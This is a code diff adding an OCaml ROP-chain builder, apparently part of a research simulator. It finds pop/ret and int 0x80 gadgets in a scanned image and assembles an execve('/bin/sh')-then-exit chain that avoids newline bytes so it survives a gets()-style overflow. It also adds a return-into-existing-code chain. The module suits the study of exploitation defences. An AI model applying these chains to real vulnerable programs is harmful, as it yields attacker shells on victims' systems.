@@ -1,0 +1,84 @@
+(* Deterministic ROP-chain builder.
+
+   A chain is the sequence of 32-bit words the attacker lays over the
+   victim's stack: gadget addresses interleaved with the immediate values
+   the gadgets pop. The builder searches the scanned gadget index
+   *semantically* (a [pop reg; ret] per register to load, an
+   [int 0x80; ret] to enter the kernel) and fails loudly when the image
+   does not carry what the chain needs — a chain is a proof about a
+   concrete image, not a template.
+
+   Every word of the serialized chain is data: it is written by an
+   ordinary [read] into an ordinary buffer and consumed by [ret] popping
+   it into eip. Nothing is ever fetched from attacker-written memory, so
+   a virtual Harvard split (and NX) has no event to trap on. The
+   byte-level constraint is inherited from the victims' gets()-style bug:
+   no word may contain 0x0A, or the copy loop would truncate the chain. *)
+
+exception No_gadget of string
+
+type slot =
+  | Gadget of Gadget.t
+  | Value of int  (** immediate popped (or consumed as a fake frame slot) *)
+
+type t = { slots : slot list }
+
+let slot_word = function Gadget g -> g.Gadget.addr | Value v -> v
+
+let words c = List.map slot_word c.slots
+
+let to_bytes c =
+  String.concat "" (List.map (fun s -> Attack.Shellcode.word32 (slot_word s)) c.slots)
+
+let contains_newline c = Attack.Shellcode.contains_newline (to_bytes c)
+
+let pp ppf c =
+  List.iter
+    (fun s ->
+      match s with
+      | Gadget g -> Fmt.pf ppf "%08x  ->  %a@." (slot_word s) Gadget.pp g
+      | Value v -> Fmt.pf ppf "%08x  (value)@." v)
+    c.slots
+
+let require what = function Some g -> g | None -> raise (No_gadget what)
+
+(* execve("/bin/sh"); exit(0) — the classic chain, from gadgets alone:
+
+     pop ebx; ret   <- address of "/bin/sh" (already in the image's data)
+     pop eax; ret   <- 11 (execve)
+     int 0x80; ret
+     pop eax; ret   <- 1 (exit)
+     pop ebx; ret   <- 0
+     int 0x80; ret
+
+   The kernel's execve reads its path through ebx from ordinary data; the
+   trailing exit keeps the compromised process from crashing — the same
+   graceful-exit discipline the paper's forensic payloads use. *)
+let execve_exit ~gadgets ~sh_addr =
+  let pop_ebx = require "pop ebx; ret" (Gadget.pop_ret gadgets Isa.Reg.EBX) in
+  let pop_eax = require "pop eax; ret" (Gadget.pop_ret gadgets Isa.Reg.EAX) in
+  let syscall = require "int 0x80; ret" (Gadget.syscall_ret gadgets) in
+  let c =
+    {
+      slots =
+        [
+          Gadget pop_ebx;
+          Value sh_addr;
+          Gadget pop_eax;
+          Value 11;
+          Gadget syscall;
+          Gadget pop_eax;
+          Value 1;
+          Gadget pop_ebx;
+          Value 0;
+          Gadget syscall;
+        ];
+    }
+  in
+  if contains_newline c then
+    invalid_arg "Chain.execve_exit: chain contains 0x0a (would truncate the copy)";
+  c
+
+(* Return-into-libtext: the degenerate one-slot chain — the corrupted
+   return address simply names existing privileged code. *)
+let ret_into ~target = { slots = [ Value target ] }
